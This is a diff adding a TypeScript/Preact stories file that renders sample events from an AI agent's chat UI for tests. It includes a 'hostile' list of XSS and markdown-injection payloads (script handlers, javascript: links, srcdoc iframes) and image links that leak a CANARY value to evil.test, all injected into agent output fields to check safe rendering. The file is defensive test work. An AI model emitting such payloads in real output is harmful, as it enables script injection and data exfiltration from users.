@@ -1,0 +1,121 @@
+import type { ComponentChildren } from 'preact'
+import type { AgentEvent } from '../../../src/core/agent/index.js'
+import type { Panel } from '../../../src/core/approval/index.js'
+import {
+  type ChatActions,
+  ChatLog,
+  emptyTranscript,
+  foldEvent,
+  StatusLine,
+  type TranscriptState,
+} from '../../../src/ui/index.js'
+import { endingTurns, eventTurns, failureTurns, told } from './sample-events.js'
+import { batchPanel, callPanels, executablePanel, hostilePanel, questionPanel } from './sample-panels.js'
+
+export interface Story {
+  name: string
+  draw(): ComponentChildren
+}
+
+declare global {
+  /** Answers that panels have given, for tests to look at. */
+  var answers: unknown[]
+}
+globalThis.answers = []
+
+const actions: ChatActions = {
+  async answer(panel, answer) {
+    globalThis.answers.push({ id: panel.id, answer })
+    return undefined
+  },
+  review() {},
+  undo() {},
+  editAndResend() {},
+  fork() {},
+}
+
+const transcriptOf = (events: readonly AgentEvent[]): TranscriptState => told(events).reduce(foldEvent, emptyTranscript)
+
+function chat(name: string, events: readonly AgentEvent[]): Story {
+  const transcript = transcriptOf(events)
+  return {
+    name,
+    draw: () => (
+      <>
+        <ChatLog transcript={transcript} actions={actions} />
+        <StatusLine transcript={transcript} />
+      </>
+    ),
+  }
+}
+
+const start = eventTurns['run-start'][0]
+const asking = (name: string, panel: Panel) => chat(name, [start, { type: 'approval-asked', panel }])
+
+const nasty = [
+  '<img src=x onerror=window.__x=1>',
+  '<svg onload=window.__x=1><image href=https://evil.test/a></svg>',
+  '[click](javascript:window.__x=1) [b](data:text/html,<script>window.__x=1</script>)',
+  '</script><script>window.__x=1</script>',
+  '<a href="obsidian://open?vault=x">go</a> [vault](obsidian://open?vault=x)',
+  '<iframe srcdoc="<script>parent.__x=1</script>"></iframe>',
+  '```mermaid\ngraph TD; A-->B; click A "javascript:window.__x=1"\n```',
+  '$\\href{javascript:window.__x=1}{x}$',
+  '![x](https://evil.test/p?d=CANARY)',
+  '![][r]\n\n[r]: https://evil.test/p?d=CANARY',
+  '<img src=//evil.test/p?d=CANARY>',
+  '![[https://evil.test/x]]',
+  '<div style="background:url(https://evil.test/css)">x</div>',
+  '<link rel=preload href=https://evil.test/l as=image>',
+  '<video poster=https://evil.test/v></video>',
+  '[//evil.test](//evil.test/a) [safe.example](https://evil.test@evil.test/)',
+  '[safe.example](https://evil.test/) [http://safe.example](https://evil.test/)',
+]
+
+/** Model text, tool names, arguments, results and failures that somebody wrote who wants more than to be read. */
+const hostileTurn: AgentEvent[] = [
+  { ...start, text: nasty[0], model: nasty[0] } as AgentEvent,
+  { type: 'reasoning-delta', text: nasty.join('\n') },
+  {
+    type: 'tool-call',
+    call: { id: 'h', name: nasty[0], input: { query: nasty[1] } },
+    title: nasty[0],
+    activity: nasty[0],
+    background: false,
+  },
+  {
+    type: 'tool-result',
+    call: { id: 'h', name: nasty[0], input: { query: nasty[1] } },
+    result: { callId: 'h', name: nasty[0], ok: false, code: 'not-found', text: nasty.join(' ') },
+  },
+  { type: 'notice', text: nasty[0] },
+  { type: 'text-delta', text: nasty.join('\n\n') },
+  {
+    type: 'citations',
+    citations: [
+      { path: nasty[0] as never, raw: nasty[0], quote: nasty[0], check: 'differs' },
+      { raw: nasty[3], check: 'missing' },
+    ],
+  },
+  {
+    type: 'run-end',
+    reason: 'failed',
+    text: '',
+    messages: [],
+    steps: 1,
+    usage: {},
+    failure: { code: 'internal', text: nasty.join(' '), hint: nasty[0] },
+  },
+]
+
+export const stories: Story[] = [
+  ...Object.entries(eventTurns).map(([type, events]) => chat(`event: ${type}`, events)),
+  ...Object.entries(endingTurns).map(([reason, events]) => chat(`ending: ${reason}`, events)),
+  ...Object.entries(failureTurns).map(([code, events]) => chat(`failure: ${code}`, events)),
+  ...Object.entries(callPanels).map(([name, panel]) => asking(`panel: call, ${name}`, panel)),
+  asking('panel: executable', executablePanel),
+  asking('panel: batch', batchPanel),
+  asking('panel: question', questionPanel),
+  asking('hostile: panel', hostilePanel),
+  chat('hostile: turn', hostileTurn),
+]
